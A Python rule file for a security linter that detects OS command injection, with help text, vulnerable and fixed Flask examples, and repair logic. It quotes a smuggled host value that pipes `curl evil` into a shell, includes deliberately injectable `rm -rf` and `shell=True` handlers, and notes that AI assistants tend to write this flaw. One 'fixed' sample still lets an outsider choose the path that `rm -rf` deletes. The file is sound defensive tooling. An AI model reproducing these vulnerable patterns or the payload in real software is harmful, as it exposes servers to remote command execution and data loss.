"""Commands that an outsider can add to, or choose."""

from __future__ import annotations

from collections.abc import Iterator

from pratique.lint.api import (
    Bad,
    Checks,
    Confidence,
    Flow,
    Good,
    Repair,
    Report,
    Rule,
    Severity,
    command_lines,
    string_parts,
)

RULE = Rule(
    name="command-injection",
    summary="an outsider's value becomes part of a command",
    help=(
        'Pass a list and no shell: subprocess.run(["ping", "-c", "1", host]); where a shell is needed, '
        "shlex.quote(host)."
    ),
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(78, 88),
    what=(
        "A value from outside in a command line that a shell runs, here or on another host (os.system, "
        "shell=True, sh -c, paramiko, fabric), and an outsider's choice of the program itself. Values from "
        "arguments and the environment are shown in the strict profile."
    ),
    why=(
        "A shell takes ;, |, $( ) and newlines in a value for syntax: a host name such as `x; curl evil | sh` "
        "runs whatever it says, with the rights of the server."
    ),
    assistants=(
        "Assistants know commands as lines typed into a terminal, and put the request's value into the line "
        "by an f-string."
    ),
    remedy=(
        "Pass the program and each of its arguments as an element of a list, without a shell. Where the "
        "shell's own syntax is needed, quote each value with shlex.quote. Let outsiders choose among known "
        "programs only."
    ),
    prompt="Never put a request's values into a shell's command line; use subprocess.run with a list.",
    references=("https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",),
    foreign=("B601", "B602", "B603", "B605", "B606", "S601", "S602", "S603", "S605", "S606"),
    bad=(
        Bad(
            """\
import os

from flask import Flask, request

app = Flask(__name__)


@app.route("/clear/<name>")
def clear(name):
    os.system("rm -rf " + name)
    return "done"
""",
            why="a line that needs no shell",
            fixed="""\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/clear/<name>")
def clear(name):
    subprocess.call(["rm", "-rf", name])
    return "done"
""",
        ),
        Bad(
            """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/ping")
def ping():
    host = request.args["host"]
    subprocess.run(f"ping -c 1 {host} | tail -1", shell=True)
    return "done"
""",
            why="a parameter of the request in a shell's line",
            fixed="""\
import shlex
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/ping")
def ping():
    host = request.args["host"]
    subprocess.run(f"ping -c 1 {shlex.quote(host)} | tail -1", shell=True)
    return "done"
""",
        ),
        Bad(
            """\
import os

from flask import Flask, request

app = Flask(__name__)


@app.route("/clear/<name>")
def clear(name):
    os.popen("rm -rf /srv/cache/%s && true" % name)
    return "done"
""",
            why="part of the path, put in by `%`",
            fixed="""\
import os
import shlex

from flask import Flask, request

app = Flask(__name__)


@app.route("/clear/<name>")
def clear(name):
    os.popen("rm -rf /srv/cache/%s && true" % shlex.quote(name))
    return "done"
""",
        ),
        Bad(
            """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/show")
def show():
    name = request.form.get("name", "")
    subprocess.run(["sh", "-c", "cat " + name])
    return "done"
""",
            why="a list that starts a shell",
        ),
        Bad(
            """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/tool", methods=["POST"])
def tool():
    subprocess.Popen([request.json["tool"], "--version"])
    return "done"
""",
            why="the program itself",
        ),
        Bad(
            """\
import subprocess
import sys

subprocess.run(["sh", "-c", "ls " + sys.argv[1]])
""",
            why="an argument of the command line, for the strict",
        ),
    ),
    good=(
        Good(
            """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/ping")
def ping():
    host = request.args["host"]
    subprocess.run(["ping", "-c", "1", host])
    return "done"
""",
            why="a list: the value is one argument",
        ),
        Good(
            """\
import shlex
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/ping")
def ping():
    host = shlex.quote(request.args["host"])
    subprocess.run(f"ping -c 1 {host} | tail -1", shell=True)
    return "done"
""",
            why="quoted for the shell",
        ),
        Good(
            """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


TOOLS = {"disk": ["df", "-h"], "load": ["uptime"]}


@app.route("/tool", methods=["POST"])
def tool():
    subprocess.Popen(TOOLS[request.json["tool"]])
    return "done"
""",
            why="a choice among known commands",
        ),
        Good(
            """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/show")
def show():
    name = request.form.get("name", "")
    subprocess.run(["sh", "-c", 'cat -- "$1"', "sh", name])
    return "done"
""",
            why="a parameter of the shell's own program",
        ),
    ),
)

KINDS = ("command",)
SUPERSEDES = ("subprocess-shell-true",)


def check_flow(flow: Flow) -> Iterator[Report]:
    message = f"{flow.enters} becomes part of a command; as an argument of a list, without a shell, it would stay one"
    if flow.is_remote:
        yield Report(flow.span, message, repair=_repair(flow))
    elif not flow.is_model:
        yield Report(flow.span, message, repair=_repair(flow), severity=Severity.MEDIUM, profile="strict")


def _repair(flow: Flow) -> Repair | None:
    """A list of arguments in place of the shell's line, or else each value quoted."""
    if flow.call is None or flow.is_elsewhere:
        return None
    command = command_lines.shell_command(flow.call)
    if command is None:
        given = flow.argument
        return command_lines.quoted(flow.call, given) if given is not None else None
    parts = string_parts(command.value)
    repair = command_lines.listed(flow.call, command, parts) if parts is not None else None
    return repair or command_lines.quoted(flow.call, command.value)


CHECKS: Checks = {Flow: check_flow}
